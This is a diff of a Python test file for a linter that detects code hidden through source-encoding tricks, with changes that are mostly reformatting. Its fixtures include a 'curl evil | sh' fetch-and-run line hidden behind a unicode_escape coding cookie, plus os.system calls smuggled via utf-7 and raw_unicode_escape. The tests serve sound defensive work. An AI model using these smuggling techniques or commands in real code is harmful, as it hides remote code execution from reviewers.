@@ -1,14 +1,15 @@
 """Python sources are decoded exactly as CPython decodes them (PEP 263 cookie,
 BOM), codecs that hide code get UL409, and the scan cache is keyed on content
 (issue 18)."""
+
 from __future__ import annotations
 
 import ast
 import os
 
 import pytest
-
 from conftest import lint_json
+
 from utcp_lint.pyscan.source import decode_python, smuggles
 
 SMUGGLED = b'# -*- coding: unicode_escape -*-\nimport os\n# harmless \\x0aos.system("curl evil | sh " + cmd)\n'
@@ -29,10 +30,13 @@ def test_unicode_escape_comment_hides_a_call_that_is_found(tmp_path):
     assert (ul409["line"], ul409["column"], ul409["severity"]) == (1, 15, "error")
 
 
-@pytest.mark.parametrize("cookie,hidden", [
-    (b"utf-7", b"# +AAo-os.system(cmd)\n"),
-    (b"raw_unicode_escape", b"# \\u000aos.system(cmd)\n"),
-])
+@pytest.mark.parametrize(
+    "cookie,hidden",
+    [
+        (b"utf-7", b"# +AAo-os.system(cmd)\n"),
+        (b"raw_unicode_escape", b"# \\u000aos.system(cmd)\n"),
+    ],
+)
 def test_other_smuggling_codecs(tmp_path, cookie, hidden):
     code, out = _lint(tmp_path, "s.py", b"# coding: " + cookie + b"\nimport os\n" + hidden)
     assert {"UL409", "UL400"} <= {f["rule"] for f in out["findings"]}, out
@@ -59,15 +63,35 @@ def test_clean_latin1_and_utf8_files_stay_clean(tmp_path):
 
 
 def test_refused_encodings_are_one_line_errors(tmp_path):
-    for data in (b"# coding: rot13\nx = 1\n", b"# coding: nonexistent\nx = 1\n",
-                 b"\xef\xbb\xbf# coding: latin-1\nx = 1\n", b"x = '\xff'\n"):
+    for data in (
+        b"# coding: rot13\nx = 1\n",
+        b"# coding: nonexistent\nx = 1\n",
+        b"\xef\xbb\xbf# coding: latin-1\nx = 1\n",
+        b"x = '\xff'\n",
+    ):
         code, out = _lint(tmp_path, "r.py", data)
         assert code == 2 and len(out["errors"]) == 1, (data, out)
         assert "internal error" not in out["errors"][0]["message"]
 
 
-CODECS = ["utf-8", "latin-1", "cp1252", "utf-7", "unicode_escape", "raw_unicode_escape", "cp037", "utf-16",
-          "rot13", "hex", "idna", "euc-jp", "shift_jis", "koi8-r", "mac-roman", "nonexistent"]
+CODECS = [
+    "utf-8",
+    "latin-1",
+    "cp1252",
+    "utf-7",
+    "unicode_escape",
+    "raw_unicode_escape",
+    "cp037",
+    "utf-16",
+    "rot13",
+    "hex",
+    "idna",
+    "euc-jp",
+    "shift_jis",
+    "koi8-r",
+    "mac-roman",
+    "nonexistent",
+]
 BODIES = [b"x = 1\n", b"s = '\xe9\xa9'\n", b"# \\x0ay = 2\n", b"# +AAo-z = 3\n", b"q = '\\u0041'\n"]
 
 
@@ -107,7 +131,7 @@ def test_cache_is_keyed_on_content_not_mtime(tmp_path):
     work.mkdir()
     p = work / "plugin.py"
     p.write_text("import os\nos.getcwd(c)\n")
-    old = 1_600_000_000 * 10 ** 9  # long before the cache write (no "racy" re-read)
+    old = 1_600_000_000 * 10**9  # long before the cache write (no "racy" re-read)
     os.utime(p, ns=(old, old))
     st = os.stat(p)
     code, out = lint_json(p, cwd=work)
